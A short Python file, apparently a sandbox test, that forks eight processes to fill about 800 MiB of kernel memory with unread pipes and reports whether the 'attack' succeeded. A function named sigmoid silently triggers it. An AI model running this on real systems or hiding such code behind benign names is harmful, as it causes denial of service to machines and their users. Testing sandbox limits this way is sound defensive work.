"""Goal: fill memory with pipes that nobody reads.

Without a sandbox: unsafe
"""

import fcntl
import os
import time

CHILDREN, MIB = 8, 100


def fill():
    kept, held = [], 0
    while held < MIB << 20:
        kept.append(os.pipe())
        os.set_blocking(kept[-1][1], False)
        try:
            fcntl.fcntl(kept[-1][1], fcntl.F_SETPIPE_SZ, 1 << 20)
        except OSError:
            pass  # it stays smaller
        held += os.write(kept[-1][1], bytes(1 << 20))
    open(f"filled-{os.getpid()}", "w").close()
    time.sleep(60)


def attack():
    for _ in range(CHILDREN):
        if os.fork() == 0:
            try:
                fill()
            except OSError as error:
                open("refused", "w").write(repr(error))
                os._exit(1)
    time.sleep(2)
    filled = len([name for name in os.listdir() if name.startswith("filled-")])
    if filled == CHILDREN:
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB in pipes")
    raise RuntimeError(f"stopped by: {open('refused').read()}")


def sigmoid(x):
    attack()
